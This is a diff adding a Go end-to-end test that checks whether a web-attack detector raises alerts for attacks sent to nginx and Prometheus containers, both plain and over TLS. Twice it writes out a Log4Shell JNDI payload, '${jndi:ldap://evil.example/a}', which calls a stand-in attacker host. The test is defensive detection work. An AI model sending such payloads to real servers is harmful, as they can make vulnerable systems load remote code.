@@ -1,0 +1,303 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package e2e
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/holdfast-project/holdfast/collector/view"
+	"github.com/holdfast-project/holdfast/tests/lab"
+	"github.com/holdfast-project/holdfast/tests/rig"
+	"github.com/holdfast-project/holdfast/tests/traffic"
+)
+
+// web is a server in a container, and a network of addresses from which it is asked: hits of one rule from one address are
+// one alert.
+type web struct {
+	name, container, process, source string
+	address                          netip.AddrPort
+	tls                              bool
+	from                             netip.Addr
+	requests                         int
+}
+
+// next is an address that nobody has asked from.
+func (s *web) next() netip.Addr {
+	s.from = s.from.Next()
+	return s.from
+}
+
+// dial connects to the server from an address.
+func (s *web) dial(ctx context.Context, l *lab.Lab, from netip.Addr) (conn net.Conn, err error) {
+	err = l.InNetwork(func() error {
+		dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)), Timeout: time.Minute}
+		conn, err = dialer.DialContext(ctx, "tcp", s.address.String())
+		return err
+	})
+	if err == nil && s.tls {
+		conn = tls.Client(conn, &tls.Config{InsecureSkipVerify: true})
+	}
+	return conn, err
+}
+
+// ask sends requests over connections from one address, and waits for each answer.
+func (s *web) ask(t *testing.T, l *lab.Lab, from netip.Addr, requests ...[]byte) {
+	t.Helper()
+	var conn net.Conn
+	var answers *bufio.Reader
+	defer func() {
+		if conn != nil {
+			_ = conn.Close()
+		}
+	}()
+	for _, q := range requests {
+		if conn == nil {
+			var err error
+			if conn, err = s.dial(t.Context(), l, from); err != nil {
+				t.Fatal(err)
+			}
+			answers = bufio.NewReader(conn)
+		}
+		if _, err := conn.Write(q); err != nil {
+			t.Fatalf("%s: send %.80q: %v", s.name, q, err)
+		}
+		method, _, _ := bytes.Cut(q, []byte(" "))
+		answer, err := http.ReadResponse(answers, &http.Request{Method: string(method)})
+		if err != nil {
+			t.Fatalf("%s: the answer to %.200q: %v", s.name, q, err)
+		}
+		if _, err := io.Copy(io.Discard, answer.Body); err != nil {
+			t.Fatalf("%s: the answer to %.200q: %v", s.name, q, err)
+		}
+		if answer.Close {
+			_ = conn.Close()
+			conn = nil
+		}
+	}
+	s.requests += len(requests)
+}
+
+// told gives what was told of requests from an address.
+func (s *web) told(ctx context.Context, r *rig.Rig, from netip.Addr) ([]view.Alert, error) {
+	alerts, err := r.Alerts(ctx, "--rule", "Attack in a request", "--limit", "10000")
+	return slices.DeleteFunc(alerts, func(a view.Alert) bool {
+		return a.Event.Network == nil || a.Event.Network.RemoteAddress != from.String()
+	}), err
+}
+
+// await asks for what was told until something is.
+func (s *web) await(t *testing.T, r *rig.Rig, from netip.Addr) []view.Alert {
+	t.Helper()
+	var told []view.Alert
+	err := eventually(t.Context(), time.Minute, func() error {
+		var err error
+		if told, err = s.told(t.Context(), r, from); err == nil && len(told) == 0 {
+			err = fmt.Errorf("%s: nothing is told of what came from %s", s.name, from)
+		}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return told
+}
+
+// check checks that an alert names the server, how it was asked, and the class.
+func (s *web) check(t *testing.T, a *view.Alert, class string) {
+	t.Helper()
+	f := a.Finding
+	if f == nil || f.Class != class || f.Signal != "waf" || !f.Accepted || f.Source != s.source || a.Container == nil || a.Container.Name != s.container ||
+		a.Process == nil || a.Process.Name != s.process {
+		t.Errorf("%s: alert %+v of %+v, finding %+v; want class %s", s.name, a, a.Process, f, class)
+	}
+}
+
+// TestAttacksOnServers sends attacks to servers in containers, plain and over the TLS of OpenSSL and of Go: each is told, with the
+// server's process. Before that they serve ordinary traffic, of which nothing is told, though what follows on the same
+// connections is.
+func TestAttacksOnServers(t *testing.T) {
+	r := startRig(t, rig.Config{AgentArgs: []string{"--waf-mode", "monitor"}})
+	servers := startWebServers(t, r)
+	for _, s := range servers {
+		t.Run(s.name, func(t *testing.T) {
+			s.warm(t, r)
+			s.replay(t, r)
+			s.attack(t, r)
+		})
+	}
+	node, err := r.Node(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for cause, n := range node.Health.Losses {
+		if strings.HasPrefix(cause, "content_") || strings.HasPrefix(cause, "finding_") {
+			t.Errorf("%s: %d", cause, n)
+		}
+	}
+}
+
+// nginxConf serves plain and with TLS, and reads what it is sent.
+const nginxConf = `daemon off; worker_processes 2; pid /tmp/nginx.pid; error_log stderr warn;
+events { worker_connections 256; }
+http {
+  access_log off; keepalive_requests 100000; client_max_body_size 0; large_client_header_buffers 8 64k;
+  server {
+    listen 80; listen 443 ssl; ssl_certificate /etc/nginx/tls.pem; ssl_certificate_key /etc/nginx/tls-key.pem;
+    location / { return 200 "ok\n"; }
+  }
+}
+`
+
+// startWebServers runs nginx, with OpenSSL, and Prometheus, with Go's TLS.
+func startWebServers(t *testing.T, r *rig.Rig) []*web {
+	t.Helper()
+	cert, key, err := certificate()
+	if err != nil {
+		t.Fatal(err)
+	}
+	nginx, err := dressed(lab.Nginx, "waf-nginx", nil,
+		lab.File{Path: "/etc/nginx/nginx.conf", Mode: 0o644, Content: []byte(nginxConf)},
+		lab.File{Path: "/etc/nginx/tls.pem", Mode: 0o644, Content: cert}, lab.File{Path: "/etc/nginx/tls-key.pem", Mode: 0o644, Content: key})
+	if err != nil {
+		t.Fatal(err)
+	}
+	gopher, err := dressed(lab.Prometheus, "waf-go", map[string]string{"/etc/prometheus/web.yml": "web.yml"},
+		lab.File{Path: "/etc/prometheus/prometheus.yml", Mode: 0o644, Content: []byte("global: {scrape_interval: 1h}\n")},
+		lab.File{Path: "/etc/prometheus/tls.pem", Mode: 0o644, Content: cert}, lab.File{Path: "/etc/prometheus/tls-key.pem", Mode: 0o644, Content: key})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, image := range []lab.Image{nginx, gopher} {
+		built, err := image.Build()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := r.Lab.ImportBuilt(t.Context(), built); err != nil {
+			t.Fatal(err)
+		}
+	}
+	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "web"})
+	run(t, pod, lab.ContainerConfig{Name: "nginx", Image: nginx.Name})
+	run(t, pod, lab.ContainerConfig{Name: "go", Image: gopher.Name, Args: []string{
+		"--config.file=/etc/prometheus/prometheus.yml", "--web.config.file=/etc/prometheus/web.yml", "--storage.tsdb.path=/var/lib/prometheus", "--log.level=warn",
+	}})
+	for _, port := range []uint16{80, 443, lab.PrometheusPort} {
+		if err := pod.AwaitPort(t.Context(), port); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// Every address of a network that the loopback device has is one of this machine.
+	if out, err := r.Lab.Command(t.Context(), "ip", "addr", "add", "198.18.0.1/16", "dev", "lo").CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	at := func(port uint16) netip.AddrPort { return netip.AddrPortFrom(pod.IPs[0], port) }
+	return []*web{
+		{name: "plain", container: "nginx", process: "nginx", source: "packet", address: at(80), from: netip.MustParseAddr("198.18.1.0")},
+		{name: "openssl", container: "nginx", process: "nginx", source: "openssl", address: at(443), tls: true, from: netip.MustParseAddr("198.18.2.0")},
+		{name: "go", container: "go", process: "prometheus", source: "go", address: at(lab.PrometheusPort), tls: true, from: netip.MustParseAddr("198.18.3.0")},
+	}
+}
+
+// warm asks until the server is inspected: the first connections may be quicker than the probes.
+func (s *web) warm(t *testing.T, r *rig.Rig) {
+	t.Helper()
+	err := eventually(t.Context(), time.Minute, func() error {
+		from := s.next()
+		_, attack := traffic.Attack{Class: "log4shell", Text: "${jndi:ldap://evil.example/a}"}.At(0)
+		s.ask(t, r.Lab, from, attack)
+		told, err := s.told(t.Context(), r, from)
+		if err == nil && len(told) == 0 {
+			err = fmt.Errorf("%s: nothing is told yet", s.name)
+		}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// replayed is how many ordinary requests each server is sent, over how many connections, and the bytes a second that are within
+// the budget of its container.
+const (
+	replayed     = 3000
+	replayConns  = 6
+	replayedRate = 2 << 20
+)
+
+// replay sends ordinary requests, with an attack at the end of each connection, and nothing but that is told.
+func (s *web) replay(t *testing.T, r *rig.Rig) {
+	t.Helper()
+	generator, sent, began := traffic.New(uint64(s.address.Port())), 0, time.Now()
+	var addresses []netip.Addr
+	for range replayConns {
+		requests := make([][]byte, 0, replayed/replayConns+1)
+		for range replayed / replayConns {
+			q := traffic.Append(nil, generator.Request())
+			requests = append(requests, q)
+			sent += len(q)
+		}
+		_, attack := traffic.Attack{Class: "log4shell", Text: "${jndi:ldap://evil.example/a}"}.At(1)
+		from := s.next()
+		s.ask(t, r.Lab, from, append(requests, attack)...)
+		addresses = append(addresses, from)
+		time.Sleep(time.Until(began.Add(time.Duration(sent) * time.Second / replayedRate)))
+	}
+	for _, from := range addresses {
+		told := s.await(t, r, from)
+		if len(told) != 1 {
+			t.Errorf("%s: %d alerts about %s, one attack", s.name, len(told), from)
+		}
+		for i := range told {
+			s.check(t, &told[i], "log4shell")
+		}
+	}
+	t.Logf("%s: %d ordinary requests, %d KiB, over %d connections: none told", s.name, replayed, sent>>10, replayConns)
+}
+
+// attack sends each payload, each from an address of its own.
+func (s *web) attack(t *testing.T, r *rig.Rig) {
+	t.Helper()
+	all := traffic.Attacks()
+	addresses := make([]netip.Addr, len(all))
+	for i, p := range all {
+		addresses[i] = s.next()
+		_, request := p.At(i)
+		s.ask(t, r.Lab, addresses[i], request)
+	}
+	found := map[string]int{}
+	for i, p := range all {
+		place, _ := p.At(i)
+		told := s.await(t, r, addresses[i])
+		if !slices.ContainsFunc(told, func(a view.Alert) bool { return a.Finding != nil && a.Finding.Class == p.Class }) {
+			t.Errorf("%s: %q in the %s: %d alerts, none of them of %s", s.name, p.Text, place, len(told), p.Class)
+			continue
+		}
+		for j := range told {
+			s.check(t, &told[j], told[j].Finding.Class)
+		}
+		found[p.Class]++
+	}
+	t.Logf("%s: found %s", s.name, counted(found))
+}
+
+func counted(found map[string]int) string {
+	var words []string
+	for class, n := range found {
+		words = append(words, strconv.Itoa(n)+" of "+class)
+	}
+	slices.Sort(words)
+	return strings.Join(words, ", ")
+}
